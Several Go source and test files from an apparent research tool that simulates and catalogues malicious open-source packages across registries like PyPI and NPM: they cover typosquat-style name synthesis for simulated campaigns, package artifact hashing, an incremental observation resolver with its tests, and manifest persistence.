	prefixes := []string{"cloud", "fast", "easy", "py", "node", "micro", "hyper", "auto", "smart", "deep", "meta", "net", "data", "dev"}
	stems := []string{"report", "player", "crypto", "video", "layout", "webpack", "scripts", "render", "style", "http", "json", "sdk", "api", "stream"}
	for attempt := 0; ; attempt++ {
		name := xrand.Pick(f.rng, prefixes) + "-" + xrand.Pick(f.rng, stems)
		if attempt > 10 {
			name += "-" + strconv.Itoa(f.rng.Intn(100000))
		}
		if f.claim(name) {
			return name
		}
	}
}

// CommonWord returns an unclaimed generic name ("util", "icons", ...) used by
// dependent-hidden campaigns; once the plain words run out it appends digits.
func (f *NameForge) CommonWord() string {
	for _, w := range CommonWords {
		if f.claim(w) {
			return w
		}
	}
	for {
		name := xrand.Pick(f.rng, CommonWords) + strconv.Itoa(f.rng.Intn(1000))
		if f.claim(name) {
			return name
		}
	}
}

// ClaimExact reserves an exact name (used to seed Table VIII's fixed
// dependency names such as "urllib" or "rest-client"). It reports whether the
// name was free.
func (f *NameForge) ClaimExact(name string) bool { return f.claim(name) }

func (f *NameForge) claim(name string) bool {
	if f.used[name] {
		return false
	}
	f.used[name] = true
	return true
}

func (f *NameForge) typo(base string) string {
	if len(base) < 3 {
		return base + base
	}
	runes := []rune(base)
	switch f.rng.Intn(4) {
	case 0: // character deletion: "requests" -> "requsts"
		i := 1 + f.rng.Intn(len(runes)-2)
		return string(runes[:i]) + string(runes[i+1:])
	case 1: // adjacent transposition: "urllib" -> "ulrlib"
		// Swapping identical neighbours ("pillow" at the double l) would
		// return the legitimate name itself, which no registry would accept;
		// scan for a differing pair instead.
		start := f.rng.Intn(len(runes) - 1)
		for off := 0; off < len(runes)-1; off++ {
			i := (start + off) % (len(runes) - 1)
			if runes[i] != runes[i+1] {
				runes[i], runes[i+1] = runes[i+1], runes[i]
				return string(runes)
			}
		}
		return base + "x"
	case 2: // character duplication: "lodash" -> "llodash"
		i := f.rng.Intn(len(runes))
		return string(runes[:i]) + string(runes[i]) + string(runes[i:])
	default: // homoglyph-ish substitution
		subs := map[rune]rune{'l': '1', 'o': '0', 'i': 'l', 's': 'z', 'e': '3'}
		for i, r := range runes {
			if sub, ok := subs[r]; ok && f.rng.Bool(0.6) {
				runes[i] = sub
				return string(runes)
			}
		}
		return base + "s"
	}
}

func (f *NameForge) combo(base string) string {
	suffixes := []string{"-js", "-node", "-api", "-dev", "-cli", "-lib", "-core", "-v2", "-official", "-plus", "-modules", "-utils"}
	if f.rng.Bool(0.3) {
		prefixes := []string{"node-", "py-", "lib", "go-", "new-", "the-"}
		return xrand.Pick(f.rng, prefixes) + base
	}
	return base + xrand.Pick(f.rng, suffixes)
}

// Version synthesises a plausible semantic version string.
func Version(rng *xrand.RNG) string {
	major := rng.Intn(10)
	minor := rng.Intn(20)
	patch := rng.Intn(30)
	v := strconv.Itoa(major) + "." + strconv.Itoa(minor) + "." + strconv.Itoa(patch)
	if rng.Bool(0.05) {
		v += "-beta." + strconv.Itoa(rng.Intn(5))
	}
	return v
}

// BumpVersion increments the patch component of a semantic version (the CV
// operation in Fig. 9 keeps the name and bumps the version).
func BumpVersion(v string) string {
	base, suffix, _ := strings.Cut(v, "-")
	parts := strings.Split(base, ".")
	if len(parts) == 0 {
		return v + ".1"
	}
	last := parts[len(parts)-1]
	n, err := strconv.Atoi(last)
	if err != nil {
		return v + ".1"
	}
	parts[len(parts)-1] = strconv.Itoa(n + 1)
	out := strings.Join(parts, ".")
	if suffix != "" {
		out += "-" + suffix
	}
	return out
}
