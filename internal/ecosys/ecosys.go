// Package ecosys models the open-source software ecosystems the paper studies:
// package coordinates (ecosystem, name, version), package artifacts (source
// files plus a manifest), content hashing, and the naming tricks
// (typosquatting, combosquatting) that OSS malware uses for social engineering.
package ecosys

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"time"
)

// Ecosystem identifies a package registry ecosystem.
type Ecosystem int

// The 10 ecosystems covered by the paper's dataset (§II-B). PyPI and NPM
// dominate; the long tail exists so dataset composition matches Table I.
const (
	PyPI Ecosystem = iota + 1
	NPM
	RubyGems
	Maven
	Cocoapods
	SourceForge
	Docker
	Composer
	NuGet
	Rust
)

// All lists every ecosystem in declaration order.
func All() []Ecosystem {
	return []Ecosystem{PyPI, NPM, RubyGems, Maven, Cocoapods, SourceForge, Docker, Composer, NuGet, Rust}
}

// Big3 lists the three ecosystems the paper's per-ecosystem tables cover.
func Big3() []Ecosystem {
	return []Ecosystem{NPM, PyPI, RubyGems}
}

var ecosystemNames = map[Ecosystem]string{
	PyPI:        "PyPI",
	NPM:         "NPM",
	RubyGems:    "RubyGems",
	Maven:       "Maven",
	Cocoapods:   "Cocoapods",
	SourceForge: "SourceForge",
	Docker:      "Docker",
	Composer:    "Composer",
	NuGet:       "NuGet",
	Rust:        "Rust",
}

// String returns the conventional registry name.
func (e Ecosystem) String() string {
	if s, ok := ecosystemNames[e]; ok {
		return s
	}
	return fmt.Sprintf("Ecosystem(%d)", int(e))
}

// SourceExt returns the source-file extension used by packages in this
// ecosystem ("py", "js", "rb"; interpreted languages per §II-A). Ecosystems
// outside the big three default to "js": their packages still carry scannable
// source so every pipeline stage treats them uniformly.
func (e Ecosystem) SourceExt() string {
	switch e {
	case PyPI:
		return "py"
	case NPM, Composer, NuGet, Docker, SourceForge, Maven, Cocoapods, Rust:
		return "js"
	case RubyGems:
		return "rb"
	default:
		return "js"
	}
}

// ManifestName returns the configuration file that declares dependencies for
// this ecosystem (§III-C step 2 reads these).
func (e Ecosystem) ManifestName() string {
	switch e {
	case PyPI:
		return "requirements.txt"
	case RubyGems:
		return "package.gemspec"
	default:
		return "package.json"
	}
}

// Coord is a package coordinate: the identity triple the paper uses for
// duplicate detection and mirror lookups.
type Coord struct {
	Ecosystem Ecosystem `json:"ecosystem"`
	Name      string    `json:"name"`
	Version   string    `json:"version"`
}

// String renders "ecosystem/name@version". Manual concatenation keeps this
// a single allocation — coordinates are stringified once per node and edge
// during graph construction, so Sprintf boxing showed up in profiles.
func (c Coord) String() string {
	eco := c.Ecosystem.String()
	var b strings.Builder
	b.Grow(len(eco) + 1 + len(c.Name) + 1 + len(c.Version))
	b.WriteString(eco)
	b.WriteByte('/')
	b.WriteString(c.Name)
	b.WriteByte('@')
	b.WriteString(c.Version)
	return b.String()
}

// Key returns a map key that uniquely identifies the coordinate.
func (c Coord) Key() string { return c.String() }

// File is one file inside a package artifact.
type File struct {
	Path    string `json:"path"`
	Content string `json:"content"`
}

// Artifact is the unpacked content of a package: its files (source +
// manifest) as shipped to the registry. Artifacts are treated as immutable
// after construction; Hash caches are computed on demand.
type Artifact struct {
	Coord       Coord  `json:"coord"`
	Description string `json:"description"`
	Files       []File `json:"files"`

	hash string // lazily computed SHA-256, see Hash
}

// NewArtifact builds an artifact with its files sorted by path, the canonical
// order the paper's similarity pipeline uses (§III-B step 2).
func NewArtifact(coord Coord, description string, files []File) *Artifact {
	sorted := make([]File, len(files))
	copy(sorted, files)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Path < sorted[j].Path })
	return &Artifact{Coord: coord, Description: description, Files: sorted}
}

// Hash returns the SHA-256 over the canonical byte serialization of the
// artifact's content (paper §III-A uses SHA-256 over the malware code to
// confirm duplicate relationships).
func (a *Artifact) Hash() string {
	if a.hash != "" {
		return a.hash
	}
	h := sha256.New()
	for _, f := range a.Files {
		// Length-prefixed framing prevents cross-file content ambiguity.
		fmt.Fprintf(h, "%d:%s%d:%s", len(f.Path), f.Path, len(f.Content), f.Content)
	}
	a.hash = hex.EncodeToString(h.Sum(nil))
	return a.hash
}

// SourceFiles returns files with recognised source extensions (.py/.js/.rb),
// mirroring §III-B step 1 ("finding all source code files").
func (a *Artifact) SourceFiles() []File {
	var out []File
	for _, f := range a.Files {
		if IsSourcePath(f.Path) {
			out = append(out, f)
		}
	}
	return out
}

// Manifest returns the dependency-declaring file and true, or false when the
// artifact ships no manifest.
func (a *Artifact) Manifest() (File, bool) {
	want := a.Coord.Ecosystem.ManifestName()
	for _, f := range a.Files {
		if f.Path == want {
			return f, true
		}
	}
	return File{}, false
}

// MergedSource concatenates all source files in path order into one blob,
// the representation the similarity pipeline embeds (§III-B step 2).
func (a *Artifact) MergedSource() string {
	var b strings.Builder
	for _, f := range a.SourceFiles() {
		b.WriteString(f.Content)
		b.WriteByte('\n')
	}
	return b.String()
}

// Clone returns a deep copy whose files may be mutated independently.
func (a *Artifact) Clone() *Artifact {
	files := make([]File, len(a.Files))
	copy(files, a.Files)
	return &Artifact{Coord: a.Coord, Description: a.Description, Files: files}
}

// IsSourcePath reports whether the path has one of the interpreted-language
// extensions the paper scans (.js, .py, .rb).
func IsSourcePath(path string) bool {
	return strings.HasSuffix(path, ".py") || strings.HasSuffix(path, ".js") || strings.HasSuffix(path, ".rb")
}

// Release records one package release event in a registry: the unit of the
// paper's timeline analysis (Fig. 7) and life-cycle model (Fig. 1).
type Release struct {
	Coord      Coord     `json:"coord"`
	ReleasedAt time.Time `json:"releasedAt"`
	RemovedAt  time.Time `json:"removedAt"` // zero ⇒ never removed
	Malicious  bool      `json:"malicious"`
}

// Removed reports whether the registry administrator has taken the release down.
func (r Release) Removed() bool { return !r.RemovedAt.IsZero() }

// PersistedFor returns how long the release stayed in the registry before
// takedown; for never-removed packages it returns the duration until horizon.
func (r Release) PersistedFor(horizon time.Time) time.Duration {
	if r.Removed() {
		return r.RemovedAt.Sub(r.ReleasedAt)
	}
	return horizon.Sub(r.ReleasedAt)
}
