package collect

// Tests for the incremental observation resolver (the external ingest path)
// and the transport-vs-takedown distinction (ISSUE 3): a transient registry
// failure must surface as an error, never as Availability=Missing.

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"reflect"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
)

// resolveAll partitions obs into k contiguous batches and feeds them through
// one resolver, merging each batch into ds the way core.Engine would (Upsert
// + AddTotals + ApplyEntryStat).
func resolveAll(t *testing.T, rv *Resolver, ds *Result, obs []Observation, k int) {
	t.Helper()
	for i := 0; i < k; i++ {
		lo, hi := i*len(obs)/k, (i+1)*len(obs)/k
		b, err := rv.Resolve(obs[lo:hi], ds)
		if err != nil {
			t.Fatalf("resolve batch %d: %v", i, err)
		}
		for _, e := range b.Entries {
			prev, existed := ds.Entry(e.Coord)
			merged, _, _ := ds.Upsert(e)
			var added []sources.ID
			for _, s := range merged.Sources {
				if !existed || !containsID(prev.Sources, s) {
					added = append(added, s)
				}
			}
			ds.AddTotals(added)
		}
		for key, st := range b.Stats {
			ds.ApplyEntryStat(key, st)
		}
	}
}

// TestResolvePartitionsMatchRun checks the telescoping-accounting contract
// on the hand-crafted fixture: the raw observations resolved in k batches —
// including k large enough to split a multi-source coordinate across
// batches — reproduce Run's entries and PerSource accounting exactly.
func TestResolvePartitionsMatchRun(t *testing.T) {
	set, fleet := fixture(t)
	at := day(30)
	want, err := Run(set, fleet, at)
	if err != nil {
		t.Fatal(err)
	}
	obs := ObservationsFromSources(set)
	for _, k := range []int{1, 2, len(obs)} {
		ds := NewResult(at)
		resolveAll(t, NewResolver(fleet, at), ds, obs, k)
		if len(ds.Entries) != len(want.Entries) {
			t.Fatalf("k=%d: %d entries, want %d", k, len(ds.Entries), len(want.Entries))
		}
		for i, e := range ds.Entries {
			w := want.Entries[i]
			if e.Coord != w.Coord || e.Availability != w.Availability ||
				e.RecoveredFrom != w.RecoveredFrom || !e.ObservedAt.Equal(w.ObservedAt) ||
				!reflect.DeepEqual(e.Sources, w.Sources) {
				t.Errorf("k=%d: entry %s = %+v, want %+v", k, e.Coord.Key(), e, w)
			}
			if (e.Artifact == nil) != (w.Artifact == nil) {
				t.Errorf("k=%d: entry %s artifact presence differs", k, e.Coord.Key())
			}
		}
		if !reflect.DeepEqual(ds.PerSource, want.PerSource) {
			t.Errorf("k=%d: PerSource = %+v, want %+v", k, ds.PerSource, want.PerSource)
		}
	}
}

// TestResolveLateArtifactUpgradesEntry splits one coordinate so the
// carrying source arrives after the entry already exists from a names-only
// observation, in both mirror-recovered and missing variants.
func TestResolveLateArtifactUpgradesEntry(t *testing.T) {
	set, fleet := fixture(t)
	at := day(30)
	a := art("pkg-a") // removed day(2); accumulate mirror synced day(2) while live
	obs := []Observation{
		{Source: sources.Snyk, Coord: a.Coord, ObservedAt: day(3)},                     // batch 1: names-only
		{Source: sources.Backstabber, Coord: a.Coord, ObservedAt: day(2), Artifact: a}, // batch 2: carries
	}
	_ = set
	ds := NewResult(at)
	resolveAll(t, NewResolver(fleet, at), ds, obs, 2)
	e, ok := ds.Entry(a.Coord)
	if !ok {
		t.Fatal("entry missing")
	}
	if e.Availability != FromSource || e.RecoveredFrom != "" {
		t.Fatalf("late-carried entry = %v from %q, want from-source", e.Availability, e.RecoveredFrom)
	}
	if !e.ObservedAt.Equal(day(2)) {
		t.Fatalf("ObservedAt = %v, want earliest observation", e.ObservedAt)
	}
	// One-shot over the same two observations must agree on the accounting.
	oneShot := NewResult(at)
	resolveAll(t, NewResolver(fleet, at), oneShot, obs, 1)
	if !reflect.DeepEqual(ds.PerSource, oneShot.PerSource) {
		t.Fatalf("partitioned accounting %+v != one-shot %+v", ds.PerSource, oneShot.PerSource)
	}
}

// TestResolveDoesNotMutateExistingEntry guards against slice aliasing: the
// resolver's merged entry must not share Sources backing with the live
// dataset entry, or its append+sort would reorder the stored entry in place
// (spare capacity lets append write into the shared array) before Upsert
// ever sees the batch.
func TestResolveDoesNotMutateExistingEntry(t *testing.T) {
	_, fleet := fixture(t)
	at := day(30)
	ds := NewResult(at)
	b := art("pkg-b")
	// Append-built source list with spare capacity, as real entries have.
	srcs := make([]sources.ID, 0, 4)
	srcs = append(srcs, sources.Snyk, sources.Tianwen)
	stored := &Entry{Coord: b.Coord, Sources: srcs, Availability: Missing, ObservedAt: day(8)}
	ds.Upsert(stored)

	rv := NewResolver(fleet, at)
	// Backstabber (ID 1) sorts before both existing sources, forcing the
	// merged list to reorder.
	if _, err := rv.Resolve([]Observation{
		{Source: sources.Backstabber, Coord: b.Coord, ObservedAt: day(2), Artifact: b},
	}, ds); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(stored.Sources, []sources.ID{sources.Snyk, sources.Tianwen}) {
		t.Fatalf("resolver mutated the stored entry's sources: %v", stored.Sources)
	}
}

// TestResolveRejectsBadObservations covers the validation surface.
func TestResolveRejectsBadObservations(t *testing.T) {
	_, fleet := fixture(t)
	rv := NewResolver(fleet, day(30))
	ds := NewResult(day(30))
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1.0.0"}
	for name, obs := range map[string]Observation{
		"unknown source":   {Source: 99, Coord: coord, ObservedAt: day(1)},
		"no name":          {Source: sources.Snyk, Coord: ecosys.Coord{Ecosystem: ecosys.PyPI, Version: "1"}, ObservedAt: day(1)},
		"no version":       {Source: sources.Snyk, Coord: ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x"}, ObservedAt: day(1)},
		"bad ecosystem":    {Source: sources.Snyk, Coord: ecosys.Coord{Ecosystem: 0, Name: "x", Version: "1"}, ObservedAt: day(1)},
		"foreign artifact": {Source: sources.Backstabber, Coord: coord, ObservedAt: day(1), Artifact: art("other")},
	} {
		if _, err := rv.Resolve([]Observation{obs}, ds); !errors.Is(err, ErrBadObservation) {
			t.Errorf("%s: err = %v, want ErrBadObservation", name, err)
		}
	}
	// A names-only artifact attached by an industry feed is dropped, not an
	// error — matching sources.Source.Observe.
	b, err := rv.Resolve([]Observation{
		{Source: sources.Snyk, Coord: art("pkg-b").Coord, ObservedAt: day(8), Artifact: art("pkg-b")},
	}, ds)
	if err != nil {
		t.Fatal(err)
	}
	if b.Entries[0].Availability == FromSource {
		t.Fatal("industry-feed artifact must not count as source-carried")
	}
}

// flakyView wraps a fleet, failing Recover with a transport error until
// healed. It stands in for a RemoteFleet whose endpoint is down.
type flakyView struct {
	registry.View
	healthy bool
}

var errDown = errors.New("dial tcp: connection refused")

func (f *flakyView) Recover(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, string, error) {
	if !f.healthy {
		return nil, "", errDown
	}
	return f.View.Recover(coord, t)
}

// TestResolveTransportFailureAbortsWithoutMissing is the external-path half
// of the ISSUE 3 bugfix: a transport failure aborts the batch with
// ErrUnresolved, records nothing, and the retry after the endpoint heals
// produces exactly the state a never-failing resolve would have.
func TestResolveTransportFailureAbortsWithoutMissing(t *testing.T) {
	set, fleet := fixture(t)
	at := day(30)
	flaky := &flakyView{View: fleet}
	rv := NewResolver(flaky, at)
	ds := NewResult(at)
	obs := ObservationsFromSources(set)

	if _, err := rv.Resolve(obs, ds); !errors.Is(err, ErrUnresolved) {
		t.Fatalf("err = %v, want ErrUnresolved", err)
	}
	if len(ds.Entries) != 0 || len(ds.PerSource) != 0 {
		t.Fatalf("failed resolve left state behind: %d entries, %v", len(ds.Entries), ds.PerSource)
	}

	flaky.healthy = true
	resolveAll(t, rv, ds, obs, 1)
	want, err := Run(set, fleet, at)
	if err != nil {
		t.Fatal(err)
	}
	if len(ds.Entries) != len(want.Entries) || !reflect.DeepEqual(ds.PerSource, want.PerSource) {
		t.Fatalf("post-retry state diverged: %d entries %+v, want %d %+v",
			len(ds.Entries), ds.PerSource, len(want.Entries), want.PerSource)
	}
	if n := len(ds.MissingEntries()); n != len(want.MissingEntries()) {
		t.Fatalf("missing count %d, want %d", n, len(want.MissingEntries()))
	}
}

// TestRunTransportFailureIsNotTakedown is the collect.Run half of the
// bugfix, over real HTTP: a mirror answering 500 must abort the collection
// run, not silently record Missing entries — while a healthy fleet with a
// genuinely removed package still classifies it Missing.
func TestRunTransportFailureIsNotTakedown(t *testing.T) {
	// Root registry that 404s (package removed); mirror that 500s.
	root := registry.New("pypi-root", ecosys.PyPI)
	c := art("pkg-c")
	if err := root.Publish(c, day(1), true); err != nil {
		t.Fatal(err)
	}
	if err := root.Remove(c.Coord, day(2)); err != nil {
		t.Fatal(err)
	}
	rootSrv := httptest.NewServer(registry.NewServer(root))
	defer rootSrv.Close()
	brokenMirror := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/info" {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"name":"broken","ecosystem":"PyPI"}`))
			return
		}
		http.Error(w, "internal error", http.StatusInternalServerError)
	}))
	defer brokenMirror.Close()

	remote := registry.NewRemoteFleet(rootSrv.Client())
	if err := remote.AddRoot(rootSrv.URL); err != nil {
		t.Fatal(err)
	}
	if err := remote.AddMirror(brokenMirror.URL); err != nil {
		t.Fatal(err)
	}

	set := sources.NewSet()
	set.Get(sources.Socket).Observe(c.Coord, day(5), nil)

	if _, err := Run(set, remote, day(30)); err == nil {
		t.Fatal("Run with a 500ing mirror must fail, not record Missing")
	} else if errors.Is(err, registry.ErrNotFound) {
		t.Fatalf("transport failure mislabeled as not-found: %v", err)
	}
}
