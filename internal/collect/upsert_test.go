package collect

import (
	"fmt"
	"reflect"
	"sort"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
	"malgraph/internal/xrand"
)

// upsertEntry fabricates a bare entry for the batch-upsert tests.
func upsertEntry(i int, srcs ...sources.ID) *Entry {
	return &Entry{
		Coord: ecosys.Coord{
			Ecosystem: ecosys.PyPI,
			Name:      fmt.Sprintf("pkg-%04d", i),
			Version:   "1.0.0",
		},
		Availability: Missing,
		Sources:      srcs,
		ObservedAt:   time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Hour),
	}
}

// TestUpsertBatchMatchesSequential is the equivalence property: UpsertBatch
// must leave the dataset — sorted Entries, byKey, per-entry outcomes — in
// exactly the state sequential Upserts produce, for shuffled mixes of new
// coordinates, repeats, merges and nils.
func TestUpsertBatchMatchesSequential(t *testing.T) {
	rng := xrand.New(7)
	var in []*Entry
	for i := 0; i < 200; i++ {
		in = append(in, upsertEntry(rng.Intn(120), sources.ID(1+rng.Intn(3))))
	}
	in = append(in, nil) // nils are skipped without an outcome
	for i := len(in) - 1; i > 0; i-- {
		j := rng.Intn(i + 1)
		in[i], in[j] = in[j], in[i]
	}

	seq := NewResult(time.Time{})
	var seqOut []UpsertResult
	for _, e := range in {
		if e == nil {
			continue
		}
		cur, existed := seq.Entry(e.Coord)
		res := UpsertResult{}
		if existed {
			res.PrevSources = cur.Sources
			res.PrevArtifact = cur.Artifact != nil
		}
		res.Entry, res.Added, res.Changed = seq.Upsert(e)
		seqOut = append(seqOut, res)
	}

	bat := NewResult(time.Time{})
	batOut := bat.UpsertBatch(in)

	if !reflect.DeepEqual(batOut, seqOut) {
		t.Fatalf("outcomes differ: batch %d results, sequential %d", len(batOut), len(seqOut))
	}
	if !reflect.DeepEqual(bat.Entries, seq.Entries) {
		t.Fatalf("entries differ: batch %d, sequential %d", len(bat.Entries), len(seq.Entries))
	}
	if !sort.SliceIsSorted(bat.Entries, func(i, j int) bool {
		return bat.Entries[i].Coord.Key() < bat.Entries[j].Coord.Key()
	}) {
		t.Fatal("batch-upserted entries not key-sorted")
	}
	// A second, overlapping batch must merge instead of duplicate.
	more := []*Entry{upsertEntry(0, 2), upsertEntry(500, 1)}
	out := bat.UpsertBatch(more)
	if out[0].Added || !out[1].Added {
		t.Fatalf("second batch outcomes: %+v", out)
	}
	seq.Upsert(more[0])
	seq.Upsert(more[1])
	if !reflect.DeepEqual(bat.Entries, seq.Entries) {
		t.Fatal("second batch diverged from sequential upserts")
	}
}

// BenchmarkUpsertPerEntry is the pre-ISSUE-5 ingest shape: one sorted-slice
// shift per new coordinate, O(corpus) each — the ROADMAP-listed linear
// append term.
func BenchmarkUpsertPerEntry(b *testing.B) {
	benchmarkUpsert(b, func(r *Result, batch []*Entry) {
		for _, e := range batch {
			r.Upsert(e)
		}
	})
}

// BenchmarkUpsertBatch collects the batch's inserts and pays one merge.
func BenchmarkUpsertBatch(b *testing.B) {
	benchmarkUpsert(b, func(r *Result, batch []*Entry) {
		r.UpsertBatch(batch)
	})
}

func benchmarkUpsert(b *testing.B, apply func(*Result, []*Entry)) {
	const corpus, delta = 20000, 512
	base := make([]*Entry, corpus)
	for i := range base {
		base[i] = upsertEntry(i, 1)
	}
	batch := make([]*Entry, delta)
	for i := range batch {
		batch[i] = upsertEntry(corpus+i*7, 1)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		r := NewResult(time.Time{})
		r.UpsertBatch(base)
		b.StartTimer()
		apply(r, batch)
	}
}
