package collect

// Manifest persistence splits the dataset into per-entry records so a
// segmented checkpoint (snapshot v5) can delta-log only the entries that
// changed since the previous checkpoint. The wire shape per entry is the
// same persistedEntry used by WriteJSON, except the artifact body is
// replaced by a content-store blob reference — the store holds the bytes,
// the manifest holds the pointer, and the hash field still lets the
// reattached artifact be verified against the original collection.

import (
	"encoding/json"
	"fmt"
	"sort"
	"time"

	"malgraph/internal/sources"
)

// ResultHeader is the dataset-level state outside the entries: collection
// time and per-source accounting. It is embedded inline in a manifest
// (it is small and changes every batch).
type ResultHeader struct {
	CollectedAt time.Time              `json:"collectedAt"`
	PerSource   map[string]SourceStats `json:"perSource"`
}

// EncodeHeader captures the dataset-level state for a manifest.
func (r *Result) EncodeHeader() ResultHeader {
	h := ResultHeader{
		CollectedAt: r.CollectedAt,
		PerSource:   make(map[string]SourceStats, len(r.PerSource)),
	}
	for id, st := range r.PerSource {
		h.PerSource[fmt.Sprint(int(id))] = st
	}
	return h
}

// EncodeEntry serialises one entry in the persisted wire shape with its
// artifact elided: blobRef (may be empty for artifact-less entries) points
// at the content-store blob holding the artifact bytes.
func (r *Result) EncodeEntry(e *Entry, blobRef string) ([]byte, error) {
	pe := persistedEntry{
		Coord:         e.Coord,
		Availability:  e.Availability,
		RecoveredFrom: e.RecoveredFrom,
		Sources:       e.Sources,
		ObservedAt:    e.ObservedAt,
		ReleasedAt:    e.ReleasedAt,
		RemovedAt:     e.RemovedAt,
		Blob:          blobRef,
	}
	if e.Artifact != nil {
		pe.Hash = e.Artifact.Hash()
	}
	if es, ok := r.EntryStatFor(e.Coord.Key()); ok {
		pe.Stats = &es
	}
	return json.Marshal(pe)
}

// DecodedEntry is one manifest entry plus the sidecar state that does not
// live on Entry itself.
type DecodedEntry struct {
	Entry   *Entry
	Stat    *EntryStat
	BlobRef string
	Hash    string // expected artifact hash; verify after attaching the blob
}

// DecodeEntry parses one record written by EncodeEntry. The artifact is not
// attached — the caller resolves BlobRef against the content store and sets
// Entry.Artifact before AssembleResult verifies it.
func DecodeEntry(data []byte) (DecodedEntry, error) {
	var pe persistedEntry
	if err := json.Unmarshal(data, &pe); err != nil {
		return DecodedEntry{}, fmt.Errorf("manifest entry decode: %w", err)
	}
	return DecodedEntry{
		Entry: &Entry{
			Coord:         pe.Coord,
			Availability:  pe.Availability,
			RecoveredFrom: pe.RecoveredFrom,
			Sources:       pe.Sources,
			ObservedAt:    pe.ObservedAt,
			ReleasedAt:    pe.ReleasedAt,
			RemovedAt:     pe.RemovedAt,
			Artifact:      pe.Artifact,
		},
		Stat:    pe.Stats,
		BlobRef: pe.Blob,
		Hash:    pe.Hash,
	}, nil
}

// AssembleResult rebuilds a dataset from a manifest header and decoded
// entries (artifacts already attached by the caller). Entries are verified
// against their recorded hashes and indexed exactly as ReadJSON would.
func AssembleResult(h ResultHeader, entries []DecodedEntry) (*Result, error) {
	res := &Result{
		CollectedAt: h.CollectedAt,
		PerSource:   make(map[sources.ID]SourceStats, len(h.PerSource)),
		byKey:       make(map[string]*Entry, len(entries)),
	}
	for raw, st := range h.PerSource {
		var id int
		if _, err := fmt.Sscanf(raw, "%d", &id); err != nil {
			return nil, fmt.Errorf("manifest decode: bad source id %q", raw)
		}
		res.PerSource[sources.ID(id)] = st
	}
	for _, de := range entries {
		e := de.Entry
		if e.Artifact != nil && de.Hash != "" && e.Artifact.Hash() != de.Hash {
			return nil, fmt.Errorf("manifest decode: artifact hash mismatch for %s", e.Coord)
		}
		if de.Stat != nil {
			if res.statsByKey == nil {
				res.statsByKey = make(map[string]EntryStat, len(entries))
			}
			res.statsByKey[e.Coord.Key()] = *de.Stat
		}
		res.Entries = append(res.Entries, e)
		res.byKey[e.Coord.Key()] = e
	}
	sort.Slice(res.Entries, func(i, j int) bool {
		return res.Entries[i].Coord.Key() < res.Entries[j].Coord.Key()
	})
	return res, nil
}
