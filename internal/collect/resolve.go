package collect

// Incremental resolution turns raw source observations — the records an
// external publisher POSTs to a running loader — into dataset batches, the
// streaming counterpart of Run's merge/resolve steps (§II-B as a continuous
// process). A Resolver is long-lived: it remembers each coordinate's
// recovery outcome so the fleet is queried at most once per coordinate no
// matter how many batches re-observe it, and it computes per-entry
// accounting whose deltas (ApplyEntryStat) telescope to exactly the
// aggregates a one-shot Run over the merged observations produces —
// regardless of how the observations were partitioned into batches.

import (
	"errors"
	"fmt"
	"sort"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
)

// Errors reported by the external ingest path.
var (
	// ErrBadObservation flags a malformed observation (unknown source,
	// incomplete coordinate, mismatched artifact); the batch is rejected
	// wholesale so the publisher can fix and retry.
	ErrBadObservation = errors.New("collect: bad observation")
	// ErrUnresolved flags an aborted resolve: a registry endpoint failed
	// for a reason other than not-found (transport error, HTTP 5xx).
	// Nothing was recorded — the caller retries the batch once the
	// endpoint recovers, instead of the failure being misfiled as a
	// takedown.
	ErrUnresolved = errors.New("collect: artifact recovery failed")
)

// Observation is one raw source record, the unit an external publisher
// POSTs: which source saw which coordinate when, with the artifact inline
// when the source carries artifacts.
type Observation struct {
	Source     sources.ID       `json:"source"`
	Coord      ecosys.Coord     `json:"coord"`
	ObservedAt time.Time        `json:"observedAt"`
	Artifact   *ecosys.Artifact `json:"artifact,omitempty"`
}

// SortObservations orders observations the way the loader replays them:
// by observation time, ties broken by coordinate key then source — the
// timeline order collect.NewFeed uses for entries.
func SortObservations(obs []Observation) {
	sort.Slice(obs, func(i, j int) bool {
		if !obs[i].ObservedAt.Equal(obs[j].ObservedAt) {
			return obs[i].ObservedAt.Before(obs[j].ObservedAt)
		}
		ki, kj := obs[i].Coord.Key(), obs[j].Coord.Key()
		if ki != kj {
			return ki < kj
		}
		return obs[i].Source < obs[j].Source
	})
}

// ObservationsFromSources flattens a source set into the raw observation
// stream an external publisher would POST — the scheduler's view of the
// simulated world, in timeline order.
func ObservationsFromSources(set *sources.Set) []Observation {
	var out []Observation
	for _, src := range set.All() {
		id := src.Info().ID
		for _, rec := range src.Records() {
			out = append(out, Observation{
				Source: id, Coord: rec.Coord,
				ObservedAt: rec.ObservedAt, Artifact: rec.Artifact,
			})
		}
	}
	SortObservations(out)
	return out
}

// recoverOutcome caches one coordinate's mirror-recovery result. Recovery is
// evaluated once, at the resolver's collection instant, exactly as Run
// evaluates availability once per collection — so the cache is not just a
// network optimisation but what keeps availability partition-independent.
type recoverOutcome struct {
	art  *ecosys.Artifact
	from string
	ok   bool // false ⇒ definitive not-found at every endpoint (takedown)
}

// Resolver incrementally resolves observation batches against a growing
// dataset. Methods are not safe for concurrent use; the ingest pipeline
// serialises calls under its own lock.
type Resolver struct {
	fleet     registry.View
	at        time.Time
	recovered map[string]recoverOutcome
	releases  map[string]ecosys.Release // only coordinates with metadata
}

// NewResolver returns a resolver recovering artifacts through fleet, with
// every lookup evaluated at the fixed collection instant at.
func NewResolver(fleet registry.View, at time.Time) *Resolver {
	return &Resolver{
		fleet:     fleet,
		at:        at,
		recovered: make(map[string]recoverOutcome),
		releases:  make(map[string]ecosys.Release),
	}
}

